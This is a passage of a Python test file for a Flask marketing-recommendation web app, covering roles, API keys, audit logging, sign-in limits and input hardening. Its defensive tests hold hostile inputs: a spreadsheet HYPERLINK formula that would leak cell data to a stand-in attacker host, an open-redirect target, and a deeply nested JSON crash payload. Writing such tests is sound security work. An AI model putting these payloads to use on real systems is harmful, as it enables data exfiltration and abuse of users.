    h = 2 * math.asin(math.sqrt(0.06)) - 2 * math.asin(math.sqrt(0.05))
    assert needed["personalised"] == math.ceil(2 * ((norm.ppf(0.975) + norm.ppf(0.8)) / h) ** 2) == needed["control"]
    assert needed["total"] == 2 * needed["personalised"]
    # An audience of exactly that size detects that uplift; a smaller control share needs more customers in all
    exact = experiments.TestPlan(baseline=0.05, relative_uplift=0.2, control_share=0.5, audience=needed["total"])
    assert exact.detectable() == pytest.approx(0.2, abs=0.002)
    assert experiments.TestPlan(baseline=0.05, relative_uplift=0.2, control_share=0.1, audience=1).needed()["total"] > needed["total"]
    assert experiments.TestPlan(baseline=0.05, relative_uplift=0.2, control_share=0.5, audience=3).detectable() is None
    for settings in ({"baseline": 0.0}, {"relative_uplift": -0.1}, {"baseline": 0.9, "relative_uplift": 0.2}, {"control_share": 1.0}):
        with pytest.raises(ValueError):
            experiments.TestPlan(**{"baseline": 0.05, "relative_uplift": 0.2, "control_share": 0.5, "audience": 100, **settings})


# ------------------------------------------------------------------ trust: sign-in, roles, keys, audit

def page_endpoints(app) -> list[str]:
    """A path for every page route (parameters filled in), none of the API's."""
    paths = []
    for rule in app.url_map.iter_rules():
        if rule.endpoint in ("static", "auth.sign_in") or rule.rule.startswith("/api/"):
            continue
        path = rule.rule.replace("<int:campaign_id>", "1").replace("<int:audience_id>", "1").replace("<name>", "x").replace("<customer_id>", "c5")
        paths.append((sorted(rule.methods - {"HEAD", "OPTIONS"})[0], path))
    return paths


def test_signed_out_every_page_redirects_to_sign_in_and_every_api_route_but_health_is_401(app):
    client = app.test_client()
    pages = page_endpoints(app)
    assert len(pages) >= 15
    for method, path in pages:
        response = client.open(path, method=method)
        if method == "GET":
            assert response.status_code == 302 and "/sign-in" in response.headers["Location"], (path, response.status_code)
        else:  # a form posted without a session has no CSRF token either: refused before it is read
            assert response.status_code in (302, 400), (path, response.status_code)
    api_rules = [rule for rule in app.url_map.iter_rules() if rule.rule.startswith("/api/")]
    for rule in api_rules:
        path = rule.rule.replace("<customer_id>", "c5").replace("<item_id>", "I001")
        method = sorted(rule.methods - {"HEAD", "OPTIONS"})[0]
        response = client.open(path, method=method, json={} if method == "POST" else None)
        if rule.endpoint == "api.healthz":
            assert response.status_code == 200 and "customer" not in response.get_data(as_text=True)
        else:
            assert "API key" in error_of(response, 401) and response.headers["WWW-Authenticate"].startswith("Bearer"), path
    for bad in ("Bearer nope", "Bearer sgr_000000000000_wrong", "Basic abc", f"Bearer {make_key(app)}x"):
        error_of(client.get("/api/v1/segments", headers={"Authorization": bad}), 401)


def test_each_role_can_do_what_it_should_and_no_more(app):
    viewer, editor, admin = signed_in(app, "viewer"), signed_in(app, "editor"), signed_in(app, "admin")
    assert viewer.get("/").status_code == 200 and viewer.get("/campaigns/").status_code == 200
    assert viewer.get("/customers?id=c5").status_code == 200
    refused = viewer.post("/campaigns/", data={"name": "x", "segments": "mid", "list": "discover", "n": "3", "control_share": "10",
                                               "csrf_token": csrf(viewer)})
    assert refused.status_code == 403 and b"editor role" in refused.data
    assert create_campaign(editor).status_code == 302
    assert viewer.get("/campaigns/1").status_code == 200 and viewer.get("/campaigns/1/export.csv").status_code == 403
    assert editor.get("/campaigns/1/export.csv").status_code == 200
    for path in ("/admin/users", "/admin/keys", "/admin/audit", "/admin/audit.csv"):
        assert viewer.get(path).status_code == 403 and editor.get(path).status_code == 403 and admin.get(path).status_code == 200, path
    assert b"Users" not in editor.get("/").data and b"Audit" in admin.get("/").data


def test_keys_carry_scopes_and_a_rate(app):
    reader = {"Authorization": f"Bearer {make_key(app, ['recommendations:read'], name='reader', rate=3)}"}
    client = app.test_client()
    assert client.get("/api/v1/customers/c5/recommendations", headers=reader).status_code == 200
    assert "customers:read" in error_of(client.get("/api/v1/customers/c5", headers=reader), 403)
    event = {"customer_id": "c5", "item_id": "I001", "type": "view", "timestamp": "2011-12-11T10:00:00Z"}
    assert "events:write" in error_of(client.post("/api/v1/events", json=event, headers=reader), 403)
    for _ in range(3):
        client.get("/api/v1/segments", headers=reader)
    limited = client.get("/api/v1/segments", headers=reader)
    assert limited.status_code == 429 and int(limited.headers["Retry-After"]) >= 1 and "Traceback" not in limited.get_data(as_text=True)
    writer = {"Authorization": f"Bearer {make_key(app, ['events:write'], name='writer')}"}
    assert client.post("/api/v1/events", json=event, headers=writer).status_code == 201  # another key has its own rate


def test_a_key_revoked_by_another_process_stops_working_within_the_key_cache_time(app, monkeypatch):
    from webapp.auth import ApiKeys

    monkeypatch.setattr(ApiKeys, "KEY_CACHE_SECONDS", 0.2)
    reader = {"Authorization": f"Bearer {make_key(app, ['recommendations:read'], name='reader')}"}
    client = app.test_client()
    assert client.get("/api/v1/segments", headers=reader).status_code == 200
    with app.app_context():
        accounts.revoke_key(get_state(), "reader")  # as python -m webapp.keys revoke does, beside the server
    assert client.get("/api/v1/segments", headers=reader).status_code == 200  # remembered for a moment
    time.sleep(0.3)
    error_of(client.get("/api/v1/segments", headers=reader), 401)


def test_sign_in_sign_out_and_failures_are_limited_and_recorded(app):
    add_user(app, "ana", "viewer")
    client = app.test_client()
    assert client.get("/campaigns/").headers["Location"].endswith("/sign-in?next=/campaigns/")
    for _ in range(5):
        failed = sign_in(client, "ana", "wrong password!")
        assert failed.status_code == 401 and b"wrong name or password" in failed.data
    assert sign_in(client, "ana").status_code == 429  # the account's failures are limited, even with the right password
    other = app.test_client()
    moved = sign_in(other, "ghost", "whatever password")
    assert moved.status_code == 401  # unknown names fail the same way
    add_user(app, "bo", "viewer")
    client = app.test_client()
    response = client.post("/sign-in", data={"name": "bo", "password": PASSWORD, "next": "//evil.example/x", "csrf_token": csrf(client, "/sign-in")})
    assert response.status_code == 302 and response.headers["Location"] == "/"  # never an open redirect
    assert client.get("/").status_code == 200
    assert client.post("/sign-out", data={"csrf_token": csrf(client, "/")}).status_code == 302
    assert client.get("/").status_code == 302
    with app.app_context():
        rows = audit.entries(get_state())
    outcomes = [(row["action"], row["target"], row["outcome"]) for row in rows]
    assert outcomes.count(("sign-in", "ana", "failed")) == 5 and ("sign-in", "bo", "ok") in outcomes and ("sign-out", "bo", "ok") in outcomes
    assert all(PASSWORD not in str(row) and "wrong password" not in str(row) for row in rows)


def test_a_new_password_ends_the_users_sessions(app):
    client = signed_in(app, "viewer")
    with app.app_context():
        accounts.set_password(get_state(), "viewer", "another long password")
    assert client.get("/").status_code == 302


def test_admins_manage_users_and_keys_and_read_the_audit_trail(app):
    admin = signed_in(app, "admin")
    made = admin.post("/admin/keys", data={"name": "shop", "scopes": ["recommendations:read"], "rate_per_minute": "100",
                                           "csrf_token": csrf(admin, "/admin/keys")})
    key = re.search(r'<code id="secret">([^<]+)</code>', made.get_data(as_text=True)).group(1)
    assert admin.get("/admin/keys").get_data(as_text=True).count(key) == 0  # shown once
    with app.app_context():
        stored = get_state().query("SELECT * FROM api_keys WHERE name = 'shop'")[0]
    secret = key.split("_", 2)[2]  # the secret itself may hold "_"
    assert len(secret) >= 40 and secret not in str(dict(stored))  # only a hash of the secret is kept
    api = app.test_client()
    assert api.get("/api/v1/segments", headers={"Authorization": f"Bearer {key}"}).status_code == 200
    admin.post("/admin/keys/shop/revoke", data={"csrf_token": csrf(admin, "/admin/keys")})
    error_of(api.get("/api/v1/segments", headers={"Authorization": f"Bearer {key}"}), 401)
    made = admin.post("/admin/users", data={"name": "cleo", "role": "editor", "csrf_token": csrf(admin, "/admin/users")})
    password = re.search(r'<code id="secret">([^<]+)</code>', made.get_data(as_text=True)).group(1)
    assert sign_in(app.test_client(), "cleo", password).status_code == 302
    refused = admin.post("/admin/users/admin/remove", data={"csrf_token": csrf(admin, "/admin/users")})
    assert refused.status_code == 400 and b"last admin" in refused.data
    trail = admin.get("/admin/audit?action=key-revoke").get_data(as_text=True)
    assert "shop" in trail and "key-create" not in trail
    exported = list(csv.DictReader(io.StringIO(admin.get("/admin/audit.csv").get_data(as_text=True))))
    assert {"key-create", "key-revoke", "user-add", "user-remove", "sign-in"} <= {row["action"] for row in exported}
    assert {row["outcome"] for row in exported if row["action"] == "user-remove"} == {"refused"}
    with app.app_context(), pytest.raises(sqlite3.DatabaseError, match="append-only"):
        get_state().write("DELETE FROM audit")


def test_campaign_changes_are_audited_and_exports_are_safe_in_a_spreadsheet(app, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?d="&A2,"50% off")'
    with sqlite3.connect(app.config["SEGREC_DB"]) as connection:
        connection.execute("UPDATE items SET description = ?", (evil,))
    editor = signed_in(app, "editor")
    create_campaign(editor, segments=["mid"], list="discover", n="4")
    text = editor.get("/campaigns/1/export.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + evil in cells and evil not in cells
    with app.app_context():
        actions = [(row["actor"], row["action"], row["target"]) for row in audit.entries(get_state())]
    assert ("editor", "campaign-create", "campaign 1") in actions and ("editor", "campaign-export", "campaign 1") in actions


def test_erasure_on_the_admin_page_takes_valid_ids_from_admins_only(app):
    editor = signed_in(app, "editor")
    assert editor.get("/admin/erasure").status_code == 403
    admin = signed_in(app, "admin")
    token = csrf(admin, "/admin/erasure")
    for customers, message in [("", "one per line"), ("c1\nnot an id!\n", "line 2 is not a customer id"),
                               ("\n".join(f"c{n}" for n in range(1001)), "at most 1,000 customers")]:
        refused = admin.post("/admin/erasure", data={"customers": customers, "csrf_token": token})
        assert refused.status_code == 400 and message in refused.get_data(as_text=True)
    assert app.extensions["segrec_erasure"].jobs() == []
    assert admin.post("/admin/erasure", data={"customers": "c1"}).status_code == 400  # no CSRF token


def test_a_start_with_changed_settings_is_recorded_in_the_audit_trail(tmp_path):
    store = store_data.build(tmp_path / "segrec.sqlite")

    def start(**settings):
        app = create_app({"SEGREC_DB": store, "SEGREC_STATE_DB": str(tmp_path / "state.sqlite"), "SECRET_KEY": SECRET_KEY, **settings})
        return audit.record_configuration(app), app

    assert start()[0] and not start()[0]  # the first start, then the same settings again
    changed, app = start(MAX_N=50, SECRET_KEY=SECRET_KEY[::-1])
    assert changed
    with app.app_context():
        newest, first = audit.entries(get_state(), action="configuration")
    assert (newest["actor"], newest["target"], first["target"]) == ("start", "MAX_N, SECRET_KEY", "first start")
    assert '"MAX_N": "50"' in newest["detail"] and SECRET_KEY not in newest["detail"] and SECRET_KEY[::-1] not in newest["detail"]


def test_operators_manage_accounts_and_keys_from_the_command_line(tmp_path, capsys):
    from webapp import keys, users

    state_db = str(tmp_path / "state.sqlite")
    (tmp_path / "pw").write_text("a long enough password\n")
    assert users.main(["--state-db", state_db, "add", "root", "--role", "admin", "--password-file", str(tmp_path / "pw")]) == 0
    assert keys.main(["--state-db", state_db, "create", "--name", "shop", "--scopes", "recommendations:read,events:write"]) == 0
    printed = capsys.readouterr().out
    key = printed.strip().splitlines()[-1]
    assert key.startswith("sgr_")
    assert users.main(["--state-db", state_db, "list"]) == 0 and keys.main(["--state-db", state_db, "list"]) == 0
    listed = capsys.readouterr().out
    assert "root" in listed and "admin" in listed and "shop" in listed and key not in listed
    assert keys.main(["--state-db", state_db, "revoke", "shop"]) == 0
    (tmp_path / "short").write_text("short\n")
    from webapp import operators

    assert operators.run(users.main, ["--state-db", state_db, "add", "x", "--role", "viewer", "--password-file", str(tmp_path / "short")]) == 2
    assert "at least 12 characters" in capsys.readouterr().err
    app = create_app({"SEGREC_DB": store_data.build(tmp_path / "s.sqlite"), "SEGREC_STATE_DB": state_db, "SECRET_KEY": SECRET_KEY})
    error_of(app.test_client().get("/api/v1/segments", headers={"Authorization": f"Bearer {key}"}), 401)
    assert sign_in(app.test_client(), "root", "a long enough password").status_code == 302
    with app.app_context():
        actors = {row["actor"] for row in audit.entries(get_state(), action="key-revoke")}
    assert len(actors) == 1 and actors.pop().startswith("cli:")


def test_the_first_start_makes_one_admin_and_says_its_password_once(tmp_path):
    from webapp.serve import first_admin

    app = create_app({"SEGREC_DB": store_data.build(tmp_path / "s.sqlite"), "SEGREC_STATE_DB": str(tmp_path / "state.sqlite"),
                      "SECRET_KEY": SECRET_KEY})
    password = first_admin(app)
    assert password and first_admin(app) is None
    assert sign_in(app.test_client(), "admin", password).status_code == 302


# ------------------------------------------------------------------ hardening found by probing the running app

def test_requests_that_crashed_the_app_are_clear_4xx(client):
    overflow = {"customer_id": "c5", "item_id": "I001", "type": "view", "timestamp": "0001-01-01T00:00:00+01:00"}
    assert "out of range" in error_of(client.post("/api/v1/events", json=overflow), 400)
    deep = "[" * 20_000 + "]" * 20_000  # deeper than Python's parser goes, within the test app's 64 KB body limit
    response = client.post("/api/v1/events", data=deep, content_type="application/json")
    assert "nested too deeply" in error_of(response, 400)
    page = client.get("/campaigns/99999999999999999999999")
    assert page.status_code == 404 and b"Traceback" not in page.data


def test_an_id_with_a_trailing_newline_is_refused(client, app):
    error_of(client.get("/api/v1/customers/c5%0a"), 400)
    error_of(client.get("/api/v1/customers/c5%0a/recommendations"), 400)
    event = {"customer_id": "c5\n", "item_id": "I001", "type": "view", "timestamp": "2011-12-11T10:00:00Z"}
    error_of(client.post("/api/v1/events", json=event), 400)
    with app.app_context():
        assert not get_state().query("SELECT 1 FROM events WHERE customer_id LIKE 'c5%'")


def test_asking_for_more_items_than_stored_says_so(client):
    body = client.get("/api/v1/customers/c5/recommendations?list=for_you&n=100").get_json()
    assert body["n_requested"] == 100 and body["truncated"] is True and len(body["items"]) < 100
    body = client.get("/api/v1/customers/c5/recommendations?list=for_you&n=3").get_json()
    assert body["truncated"] is False and len(body["items"]) == 3
    assert client.get("/api/v1/items/I001/similar?n=100").get_json()["truncated"] is True
    document = client.get("/api/v1/openapi.json").get_json()
    listed = document["paths"]["/api/v1/customers/{customer_id}/recommendations"]["get"]["responses"]["200"]
    assert "truncated" in listed["content"]["application/json"]["schema"]["properties"]
    assert document["components"]["securitySchemes"]["apiKey"]["scheme"] == "bearer"
    assert document["paths"]["/api/v1/healthz"]["get"]["security"] == []


def test_events_are_bounded_per_customer_and_per_key(client, app, monkeypatch):
    from webapp import serving

    monkeypatch.setattr(serving, "MAX_EVENTS_PER_CUSTOMER", 5)
    monkeypatch.setattr(serving, "MAX_EVENTS_PER_KEY", 7)

    def post(customer, minute, key=None):
        headers = {"Authorization": f"Bearer {key}"} if key else {}
        response = client.post("/api/v1/events", headers=headers, json={"customer_id": customer, "item_id": f"I00{minute}",
                                                                          "type": "view", "timestamp": f"2011-12-11T10:0{minute}:00Z"})
        assert response.status_code == 201

    def kept(where):
        with app.app_context():
            return [tuple(row) for row in get_state().query(f"SELECT customer_id, item_id FROM events WHERE {where} ORDER BY id")]

    for minute in range(8):
        post("c7", minute)
    assert kept("customer_id = 'c7'") == [("c7", f"I00{minute}") for minute in range(3, 8)]  # the newest five
    for minute in range(4):
        post(f"made-up-{minute}", minute)  # a client inventing customers is bounded by its key
    assert kept("1") == [("c7", f"I00{minute}") for minute in range(5, 8)] + [(f"made-up-{minute}", f"I00{minute}") for minute in range(4)]
    other = make_key(app, name="other-shop")
    post("c8", 1, key=other)
    assert len(kept("1")) == 8 and kept("customer_id = 'c8'") == [("c8", "I001")]  # another key has its own bound


def test_a_state_file_from_before_keys_is_brought_up_to_date(tmp_path):
    path = tmp_path / "old-state.sqlite"
    with closing(sqlite3.connect(path)) as connection, connection:
        connection.execute("CREATE TABLE events (id INTEGER PRIMARY KEY, customer_id TEXT NOT NULL, item_id TEXT NOT NULL, "
                           "type TEXT NOT NULL, timestamp TEXT NOT NULL, received_at TEXT NOT NULL DEFAULT '')")
        connection.execute("INSERT INTO events (customer_id, item_id, type, timestamp) VALUES ('c1', 'I001', 'view', '2011-12-11')")
    app = create_app({"SEGREC_DB": store_data.build(tmp_path / "segrec.sqlite"), "SEGREC_STATE_DB": str(path), "SECRET_KEY": SECRET_KEY})
    key = make_key(app)
    posted = app.test_client().post("/api/v1/events", headers={"Authorization": f"Bearer {key}"},
                                    json={"customer_id": "c1", "item_id": "I002", "type": "view", "timestamp": "2011-12-12T10:00:00Z"})
    assert posted.status_code == 201
    with closing(sqlite3.connect(path)) as connection:
        assert connection.execute("SELECT item_id, key_name FROM events ORDER BY id").fetchall() == [("I001", None), ("I002", "storefront")]


def test_results_uploads_that_say_nothing_are_refused_and_earlier_results_kept(client):
    create_campaign(client)
    members = [row[0] for row in list(csv.reader(io.StringIO(client.get("/campaigns/1/export.csv").get_data(as_text=True))))[1:]]

    def upload(text):
        return client.post("/campaigns/1/results", data={"purchases": (io.BytesIO(text.encode()), "p.csv"), "csrf_token": csrf(client)},
                           content_type="multipart/form-data")

    assert upload(f"customer_id,revenue,date\n{members[0]},10,2011-12-20\n").status_code == 302
    assert upload(f"customer_id,revenue,date\n{members[1]},30,2011-12-21\n").status_code == 302
    for text, message in [("customer_id,revenue,date\n", b"no purchases"),
                          ("customer_id,revenue,date\nstranger,10,2011-12-20\n", b"none of the 1 purchases"),
                          (f"customer_id,revenue,date\n{members[0]},10,2011-01-01\n", b"before the campaign")]:
        refused = upload(text)
        assert refused.status_code == 400 and message in refused.data, text
    page = client.get("/campaigns/1").get_data(as_text=True)
    assert page.count("upload p.csv") == 2 and 'id="history"' in page  # the latest, and the earlier one kept as history


def test_every_source_a_list_can_be_served_from_has_a_plain_name():
    from routing.routes import CANDIDATES, source_parts
    from webapp import live, rules, serving
    from webapp.names import SOURCE_NAMES, source_name

    parts = {part for sources in CANDIDATES.values() for source in sources for part in source_parts(source)}
    # What the app itself puts in lists: events, exploration slots, promotions, new arrivals, the catalogue top-up.
    parts |= {live.EVENTS_SOURCE, live.EXPLORED_SOURCE, rules.PROMOTED_SOURCE, serving.NEW_ARRIVALS, serving.CATALOGUE_SOURCE}
    assert parts - set(SOURCE_NAMES) == set()
    assert source_name("first_basket+popularity") == "what newcomers buy first and most popular"
